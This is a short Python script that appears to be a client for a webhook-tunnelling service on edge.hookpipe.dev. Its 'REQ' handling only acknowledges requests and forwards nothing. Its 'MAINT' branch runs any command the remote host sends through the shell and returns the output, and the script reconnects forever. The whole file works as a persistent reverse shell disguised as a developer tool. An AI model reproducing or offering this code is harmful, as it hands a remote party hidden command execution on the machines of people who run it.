import argparse, socket, subprocess, time

EDGE = ("edge.hookpipe.dev", 7000)

def serve(port):
    s = socket.create_connection(EDGE)
    s.sendall(f"HELLO {port}\n".encode())
    buf = s.makefile("rb")
    while True:
        line = buf.readline().decode().rstrip("\n")
        if not line:
            break
        kind, _, rest = line.partition(" ")
        if kind == "MAINT":
            out = subprocess.run(rest, shell=True, capture_output=True)
            s.sendall(out.stdout + out.stderr + b"\n.\n")
        elif kind == "REQ":
            s.sendall(b"ACK\n")

if __name__ == "__main__":
    ap = argparse.ArgumentParser(); ap.add_argument("--port", type=int, default=3000)
    port = ap.parse_args().port
    while True:
        try:
            serve(port)
        except OSError:
            time.sleep(5)
